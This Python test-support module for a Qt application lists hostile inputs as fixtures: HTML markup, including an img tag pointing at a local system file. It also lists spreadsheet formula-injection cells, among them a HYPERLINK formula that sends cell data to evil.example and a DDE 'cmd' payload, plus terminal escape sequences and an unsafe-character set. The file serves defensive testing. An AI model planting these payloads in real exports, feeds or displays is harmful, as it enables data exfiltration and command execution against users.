"""Hostile inputs (markup, formulas, terminal control sequences) and how Qt would show a string."""

from __future__ import annotations

from PySide6.QtCore import Qt
from PySide6.QtGui import Qt as QtGuiNamespace
from PySide6.QtGui import QTextDocument
from PySide6.QtWidgets import QLabel

# Text a package, a feed or a provider could send, that Qt would take for markup.
MARKUP = [
    '<img src="file:///etc/hostname">',
    '<a href="https://evil.example/steal">Click me</a>',
    "<b>bold</b> &amp; <i>entity</i>",
    "<h1>Huge</h1><table><tr><td>cell</td></tr></table>",
    "<qt>forced rich</qt>",
]


def rendered(text: str, fmt: Qt.TextFormat = Qt.TextFormat.AutoText) -> str:
    """What a person sees when Qt shows ``text`` in ``fmt`` (AutoText guesses, like tooltips do)."""
    rich = fmt == Qt.TextFormat.RichText or (fmt == Qt.TextFormat.AutoText and QtGuiNamespace.mightBeRichText(text))
    if not rich:
        return text
    doc = QTextDocument()
    doc.setHtml(text)
    return doc.toPlainText().replace("\u2029", "\n").replace("\u2028", "\n").replace("\xa0", " ")


def shown(label: QLabel) -> str:
    return rendered(label.text(), label.textFormat())

# Cells a spreadsheet would evaluate (OWASP CSV injection), with what the export must write instead.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]

# Terminal control sequences a title could carry (window title, clear screen, OSC 52 clipboard, C1 CSI, bidi).
TERMINAL = [
    "\x1b]0;pwned\x07",
    "\x1b[2J\x1b[H",
    "\x1b]52;c;cHduZWQ=\x07",
    "\x9b31mred",
    "bell\x07\x08back",
    "\u202eevil",
]
UNSAFE_CHARS = {chr(c) for c in [*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0)]} | set("\u202a\u202b\u202c\u202d\u202e")
